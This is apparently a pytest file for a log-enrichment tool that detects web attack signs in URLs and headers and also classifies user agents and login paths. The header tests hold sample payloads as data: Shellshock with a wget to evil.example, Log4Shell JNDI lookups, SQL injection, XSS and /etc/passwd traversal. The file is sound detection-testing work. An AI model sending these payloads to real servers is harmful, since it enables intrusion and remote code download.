"""Attack signs: what must match, however it is encoded, and the innocent URLs that must not."""

import os
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from enrich.hints import factored, looser
from enrich.logins import login_applications
from enrich.signs import (
    ASSET_PATH,
    CRAWLER_AGENT,
    EXPLICIT,
    EXPLOITS,
    LOGIN_PATH,
    PROBES,
    SIGNS,
    TOOL_AGENT,
    Sign,
    decode,
    mark_headers,
    mark_signs,
    match_signs,
    name_signs,
    shows,
)
from tests.unit.enrich.urls import ATTACKS, INNOCENT

DATA = Path(__file__).parents[3].parent / "shared" / "data"
SOURCES = ("elastic_apache_logs", "ocatak_scans", "secrepo", "spinster2015_2018", "willthefarmer")
"""Whose logs the signs were made with; the others are for the evaluation."""
NAMES = [sign.name for sign in SIGNS]


def signs_of(url: str) -> set[str]:
    row = match_signs(pl.Series([url])).row(0, named=True)
    return {name for name, is_matched in row.items() if is_matched}


@pytest.mark.parametrize(("sign", "url"), ATTACKS)
def test_an_attack_shows_its_sign(sign: str, url: str) -> None:
    assert sign in signs_of(url)


@pytest.mark.parametrize("url", INNOCENT)
def test_an_innocent_url_shows_none(url: str) -> None:
    assert signs_of(url) == set()


@pytest.mark.parametrize(
    ("sign", "header"),
    [
        ("rce", "() { :; }; /bin/bash -c 'wget http://evil.example/x'"),
        ("rce", "${jndi:ldap://evil.example/a}"),
        ("rce", "${${lower:j}ndi:ldap://evil.example/a}"),
        ("sqli", "Mozilla/5.0' AND SLEEP(5)-- -"),
        ("xss", "<script>alert(1)</script>"),
        ("traversal", "http://shop.example/?f=../../../etc/passwd"),
    ],
)
def test_a_header_shows_its_sign(sign: str, header: str) -> None:
    headers, nothing = pl.Series([None, header, "-"]), pl.Series([None, "-", None], dtype=pl.String)
    for marks in (mark_headers(headers, nothing), mark_headers(nothing, headers)):
        assert marks.dtype == pl.UInt16
        assert [names is not None and sign in names for names in name_signs(marks)] == [False, True, False]


@pytest.mark.parametrize(
    "header",
    [
        None,
        "",
        "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "https://www.google.com/search?q=union+select+branches&hl=id",
        "https://shop.example/wp-admin/",
        "https://shop.example/.git/config",
        "https://shop.example/login?next=https%3A%2F%2Fshop.example%2Fcart%3Fa%3D1%26b%3D2",
    ],
)
def test_an_innocent_header_shows_none(header: str | None) -> None:
    headers = pl.Series([header], dtype=pl.String)
    assert mark_headers(headers, headers).to_list() == [0]


def test_a_class_is_explicit_or_ordinary_somewhere() -> None:
    assert {"sqli", "exploit", "sensitive", "webshell"} <= set(EXPLICIT)
    assert {"admin", "cms", "internal"} & set(EXPLICIT) == set()
    assert set(EXPLOITS) <= set(EXPLICIT)


def test_every_class_is_attacked_above() -> None:
    assert {sign for sign, _ in ATTACKS} == set(NAMES) == {*EXPLOITS, *PROBES}
    assert not set(EXPLOITS) & set(PROBES)


def test_shape_order_and_nulls() -> None:
    matched = match_signs(pl.Series("whatever", ["/.env", None, "/", "/.env"]))
    assert matched.columns == NAMES
    assert matched["sensitive"].to_list() == [True, False, False, True]
    assert match_signs(pl.Series([], dtype=pl.String)).shape == (0, len(NAMES))


@pytest.mark.parametrize(
    ("url", "plain"),
    [
        ("/A%20b+C", "/a b c"),
        ("/%2541", "/a"),
        ("/%25%34%31", "/a"),
        ("/%E4", "/ä"),
        ("/%zz%", "/%zz%"),
        ("/%25", "/%"),
        (r"/?q=\x22%27\x5C", "/?q=\"'\\"),
        (None, None),
    ],
)
def test_decoding(url: str | None, plain: str | None) -> None:
    assert decode(pl.Series([url], dtype=pl.String)).to_list() == [plain]


@pytest.mark.parametrize(
    "path",
    ["/login", "/login/", "/log-in", "/user/login", "/wp-login.php", "/xmlrpc.php", "/api/auth", "/oauth/token",
     "/users/sign_in", "/account/logon", "/login.aspx", "/j_security_check"],
)  # fmt: skip
def test_login_paths(path: str) -> None:
    assert pl.Series([path]).str.contains(LOGIN_PATH).item()


@pytest.mark.parametrize(
    "path", ["/", "/blogin", "/login/help", "/logins", "/authors", "/tokens-explained", "/loginfo"]
)
def test_paths_that_are_no_login(path: str) -> None:
    assert not pl.Series([path]).str.contains(LOGIN_PATH).item()


@pytest.mark.parametrize(
    ("agent", "tool", "crawler"),
    [
        ("sqlmap/1.8#stable", True, False),
        ("curl/8.5.0", True, False),
        ("Mozilla/5.00 (Nikto/2.5.0)", True, False),
        ("python-requests/2.32", True, False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False, True),
        ("Mozilla/5.0 (compatible; bingbot/2.0)", False, True),
        ("UptimeRobot/2.0", False, True),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
         False, False),
        ("Mozilla/5.0 (Linux; Android 14; Cubot Note 50) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
         False, False),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", False, False),
    ],
)  # fmt: skip
def test_user_agents(agent: str, tool: bool, crawler: bool) -> None:
    lower = pl.Series([agent.lower()])
    assert lower.str.contains(TOOL_AGENT).item() == tool
    assert lower.str.contains(CRAWLER_AGENT).item() == crawler


@pytest.mark.parametrize(
    ("path", "is_asset"), [("/a.css", True), ("/a.jpeg", True), ("/a.html", False), ("/css", False)]
)
def test_assets(path: str, is_asset: bool) -> None:
    assert pl.Series([path]).str.contains(ASSET_PATH).item() == is_asset


def straightforward(urls: pl.Series) -> pl.DataFrame:
    """Every pattern on every URL, without the hints."""
    decoded = decode(urls)
    return pl.DataFrame([shows(sign, decoded).fill_null(value=False).alias(sign.name) for sign in SIGNS])


@pytest.mark.parametrize("sign", SIGNS, ids=NAMES)
@settings(max_examples=25)  # long expressions: each example costs 10 ms
@given(data=st.data())
def test_a_hint_takes_whatever_its_pattern_takes(sign: Sign, data: st.DataObject) -> None:
    texts = pl.Series([data.draw(st.from_regex(sign.pattern))], dtype=pl.String)
    assert (texts.str.contains(factored([sign.guess])) | ~texts.str.contains(sign.pattern)).all()


def test_beginnings_are_pulled_out() -> None:
    assert factored([r"/ab|/(ac|d)?e", "/abc"]) == "/(?:a(?:b|c(?:e))|d(?:e)|e)"
    assert factored([r"/[ab]c", r"x*y|\.git|(a|b)+c"]) == r"x*y|(a|b)+c|/(?:[ab]c)|\.(?:g(?:i(?:t)))"
    assert looser(r"^[^?]*/a{1,3}\b(\?|$)") == "/a*"


PARTS = st.sampled_from(
    ["union ", "select", "+", "%20", "%2520", "'", "or 1=1", "<", "script", "../", "..%5c", "%c0%ae", "/etc/passwd",
     ";", "id", "cat ",
     "/.", "env", ".sql", "?", "&", "/admin", "{{", "7*7", "shell", ".php", "\\x22",
     "é", "Σ", "İ", "\\", "%", "$(", "\n"]
)  # fmt: skip


@given(st.lists(st.one_of(st.none(), st.text(max_size=20), st.lists(PARTS, max_size=8).map("".join)), max_size=20))
def test_hints_change_nothing(urls: list[str | None]) -> None:
    series = pl.Series(urls, dtype=pl.String)
    assert match_signs(series).equals(straightforward(series))


def test_hints_change_nothing_about_the_urls_of_attackers_and_visitors() -> None:
    urls = pl.Series([url for _, url in ATTACKS] + INNOCENT)
    assert match_signs(urls).equals(straightforward(urls))


@pytest.mark.real_logs
@pytest.mark.skipif(not DATA.is_dir() and "CI" not in os.environ, reason="the real logs are not on this machine")
def test_hints_change_nothing_on_real_logs() -> None:
    requests = [
        text.split('"')[1].partition(" ")[2].rpartition(" ")[0]
        for source in SOURCES
        for text in (DATA / source / "access.log").read_text("utf-8", "backslashreplace").splitlines()
        if text.count('"') > 1
    ]
    urls = pl.Series(requests).unique()
    assert len(urls) > 15_000
    matched = match_signs(urls)
    assert matched.equals(straightforward(urls))
    assert matched.sum().row(0) > (0,) * len(SIGNS)


def test_marks_become_names() -> None:
    marks = mark_signs(pl.Series("url", ["/", "/.env?q=%3Cscript%3E", None, "/../../etc/passwd"]))
    assert marks.dtype == pl.UInt16
    assert name_signs(marks).to_list() == [None, ["xss", "sensitive"], None, ["traversal"]]
    assert name_signs(pl.Series([], dtype=pl.UInt16)).to_list() == []


@pytest.mark.parametrize(
    ("path", "application"),
    [
        ("/wp-login.php", "wordpress"),
        ("/blog/XMLRPC.php", "wordpress"),
        ("/administrator/index.php", "joomla"),
        ("/user/login", "drupal"),
        ("/phpMyAdmin/index.php", "phpmyadmin"),
        ("/index.php/login", "nextcloud"),
        ("/users/sign_in", "gitlab"),
        ("/grafana/login", "grafana"),
        ("/j_spring_security_check", "jenkins"),
        ("/auth/realms/shop/protocol/openid-connect/token", "keycloak"),
        ("/owa/auth.owa", "exchange"),
        ("/manager/html", "tomcat"),
        ("/admin/login/", "django"),
        ("/cpanel/login/", "cpanel"),
        ("/remote/logincheck", "vpn"),
        ("/login", "generic"),
        ("/account/signin.php", "generic"),
        ("/", None),
        ("/blogin", None),
        ("/administrators", None),
        (None, None),
    ],
)
def test_login_applications(path: str | None, application: str | None) -> None:
    found = login_applications(pl.Series("url.path", ["/a", path], dtype=pl.String))
    assert found.to_list() == [None, application]
    assert found.name == "url.path"


def test_a_path_that_takes_other_requests_too_is_no_login_for_the_detector() -> None:
    shared = pl.Series(["/administrator/index.php", "/manager/html", "/phpmyadmin/index.php"])
    assert login_applications(shared).null_count() == 0
    assert not shared.str.contains(LOGIN_PATH).any()
    assert login_applications(pl.Series([], dtype=pl.String)).to_list() == []
